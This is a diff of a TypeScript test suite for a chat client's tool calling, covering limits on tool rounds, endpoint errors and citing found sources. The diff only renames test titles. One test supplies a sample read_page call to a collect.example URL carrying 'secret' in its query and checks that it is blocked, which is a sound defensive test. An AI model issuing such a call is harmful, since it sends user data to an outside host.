@@ -107,14 +107,14 @@ const streams: [name: string, stream: FakeReply, expected: object[]][] = [
   ],
   ['a call without an id', calls({ ...named('calculate', sum('6+6')), id: undefined }), [done('6+6 = 12')]],
   [
-    'a page that nobody named',
+    'a page that was not named',
     calls(named('read_page', '{"url":"https://collect.example/?said=secret"}')),
     [failed('failed', /只能读读者写出的地址/)],
   ],
 ]
 
 test.each(streams)(
-  '%s: each call is made, bounded and shown, then the model answers',
+  '%s: each call is executed within its limits and shown, then the model answers',
   async (...[, stream, expected]) => {
     chat.model.next(stream)
     chat.model.next(streamed(['答案在此。']))
@@ -131,7 +131,7 @@ const vendors = readRecordedStreams()?.filter(({ expected }) => expected.tool_ca
 if (vendors.length === 0) test.skip('recorded streams of vendors (not on this machine)', () => undefined)
 else {
   test.each(vendors)(
-    '$name, as its vendor sent it: the calls are shown and answered',
+    '$name, as recorded from its vendor: the calls are shown and answered',
     async ({ events, expected }) => {
       chat.model.next({ parts: [...events] })
       chat.model.next(streamed(['答案在此。']))
@@ -147,7 +147,7 @@ else {
   )
 }
 
-test('a model that calls without end is bounded, and has to answer', async () => {
+test('a model that keeps calling tools is limited, then must answer', async () => {
   for (let round = 0; round < toolLimits.rounds; round += 1)
     chat.model.next(calls(named('calculate', sum(`${round}+1`), 0, `round-${round}`)))
   chat.model.next(streamed(['够了。']))
@@ -162,7 +162,7 @@ test.each([
   '"auto" tool choice requires --enable-auto-tool-choice and --tool-call-parser to be set',
   'No endpoints found that support tool use.',
   '`tools` is not supported with this model',
-])('a model whose endpoint says “%s” answers plainly', async (message) => {
+])('a model whose endpoint says “%s” answers without tools', async (message) => {
   chat.model.next(errorReply(400, { message }))
   chat.model.next(streamed(['我直接说。']))
   const { cards, end } = await chat.ask('你好')
@@ -171,7 +171,7 @@ test.each([
   expect(chat.model.requests.at(-1)?.body.tools).toBeUndefined()
 })
 
-test('a request that is refused for another reason is not made again', async () => {
+test('a request refused for another reason is not repeated', async () => {
   const before = chat.model.requests.length
   chat.model.next(errorReply(400, { message: 'messages: at least one is required' }))
   const { end } = await chat.ask('你好')
@@ -179,8 +179,8 @@ test('a request that is refused for another reason is not made again', async () 
   expect(chat.model.requests).toHaveLength(before + 1)
 })
 
-describe('what was found', () => {
-  test('has one number throughout the answer, is cited by it and shown', async () => {
+describe('a found source', () => {
+  test('has one number throughout the answer, and is cited by it and shown', async () => {
     found = [sourceOf('甲', 'https://a.example/1'), sourceOf('乙', 'https://b.example/2')]
     chat.model.next(calls(named('web_search', '{"query":"甲"}')))
     chat.model.next(
@@ -204,7 +204,7 @@ describe('what was found', () => {
     expect(callsOf(cards)[2]).toMatchObject({ name: 'read_page', result: '[2] 页\n全文' })
   })
 
-  test('an address that the reader wrote may be read', async () => {
+  test('an address written by the user may be read', async () => {
     chat.model.next(calls(named('read_page', '{"url":"https://c.example/x"}')))
     chat.model.next(streamed(['读过[1]。']))
     const { cards } = await chat.ask('看看 https://c.example/x，说了什么')
